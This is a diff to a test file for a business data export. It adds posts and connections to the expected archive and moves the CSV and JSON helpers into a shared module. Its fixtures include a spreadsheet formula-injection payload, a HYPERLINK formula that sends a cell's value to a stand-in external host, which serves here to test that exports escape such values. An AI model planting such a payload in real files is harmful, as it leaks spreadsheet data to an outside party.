@@ -5,8 +5,9 @@ import { expect, test } from 'vitest'
 import type { StoredFileEntry, UploadDescriptorEntry } from '../../contract/files.ts'
 import { aBusiness } from '../../testing/businesses.ts'
 import { testDatabase } from '../../testing/database.ts'
-import { archiveOf } from '../../testing/exports.ts'
+import { archiveOf, jsonIn, rowsIn } from '../../testing/exports.ts'
 import { aFileServer } from '../../testing/files.ts'
+import { aPostBy } from '../../testing/posts.ts'
 import { aSession } from '../../testing/sessions.ts'
 import { follow } from '../follows/following.ts'
 
@@ -59,20 +60,6 @@ async function upload({ owner, businessID, send }: Company, colour: string): Pro
   return (data as { file: StoredFileEntry }).file
 }
 
-const jsonIn = (archive: Map<string, Buffer>, name: string) =>
-  JSON.parse(archive.get(name)?.toString() ?? '') as unknown
-/** The rows of a table that has every cell in quotes. */
-function rowsIn(archive: Map<string, Buffer>, name: string): string[][] {
-  const text = archive.get(name)?.toString() ?? ''
-  expect(text[0]).toBe('\uFEFF')
-  const rows: string[][] = [[]]
-  for (const [, cell = '', end] of text.slice(1).matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
-    rows.at(-1)?.push(cell.replaceAll('""', '"'))
-    if (end !== ',') rows.push([])
-  }
-  return rows.slice(0, -1)
-}
-
 const formula = '=HYPERLINK("https://x.example/?"&A1,"click")'
 const sections = {
   general: {
@@ -101,6 +88,7 @@ const sections = {
     website: 'https://kitazawa.example/?a=1&b=%20',
     phone: { countryCode: '+81', businessPhoneNumber: '612345678' },
     mobilePhone: { countryCode: '', businessPhoneNumber: '' },
+    inquiriesFrom: 'connections',
   },
   factory: {
     manufacturingFacilities: 'CNC lathes:\t4\n= 12 presses',
@@ -256,6 +244,8 @@ test('nobody’s address is in it, and the page that explains it is in the langu
     'team.json',
     'team.csv',
     'favourites.json',
+    'posts.json',
+    'connections.json',
     'inquiries.json',
     'products.json',
     'products.csv',
@@ -277,10 +267,15 @@ test('many products are there, each once, and lists of nothing are lists', async
     members: [{ userID: owner.userID, role: 'owner' }],
     products: 101,
   })
+  const written = await aPostBy(db, { type: 'business', id: businessID }, { content: '=1+1 "as it is"' })
   const archive = await archiveOf(db, server, { bearer: owner.bearer, businessID })
+  expect(jsonIn(archive, 'posts.json')).toMatchObject([
+    { postID: written, content: '=1+1 "as it is"', earlier: [] },
+  ])
   const products = jsonIn(archive, 'products.json') as { productID: string }[]
   expect(products.map(({ productID }) => productID)).toEqual(productIDs.toSorted((a, b) => (a < b ? -1 : 1)))
   expect(rowsIn(archive, 'products.csv')).toHaveLength(102)
   expect(jsonIn(archive, 'favourites.json')).toEqual([])
+  expect(jsonIn(archive, 'connections.json')).toEqual([])
   expect(jsonIn(archive, 'certificates.json')).toEqual([])
 })
